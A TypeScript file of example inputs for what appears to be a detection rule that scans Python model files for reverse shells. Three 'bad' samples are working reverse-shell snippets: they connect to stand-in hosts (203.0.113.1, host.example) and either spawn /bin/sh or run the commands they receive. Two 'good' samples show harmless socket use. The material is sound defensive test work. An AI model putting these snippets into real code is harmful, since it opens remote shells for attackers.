import type { Example, RuleExamples } from '../../../model/rule.ts'

function py(text: string, path = 'modeling_x.py'): Example {
  return { path, bytes: Buffer.from(text) }
}

export const examples: RuleExamples = {
  bad: [
    py(
      'import socket, subprocess, os\ns = socket.socket()\ns.connect(("203.0.113.1", 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
    ),
    py(
      'import socket, pty\ndef go():\n    s = socket.create_connection(("host.example", 1))\n    pty.spawn("/bin/sh")\ngo()',
    ),
    py(
      'import socket, subprocess\ns = socket.socket()\ns.connect(("host.example", 1))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.check_output(c, shell=True))',
    ),
  ],
  good: [
    py(
      'import socket\ndef port():\n    s = socket.socket()\n    s.bind(("", 0))\n    return s.getsockname()[1]',
    ),
    py(
      'import socket\nimport subprocess\ndef up(h):\n    socket.create_connection((h, 80))\ndef v():\n    return subprocess.check_output(["git", "describe"])',
    ),
  ],
}
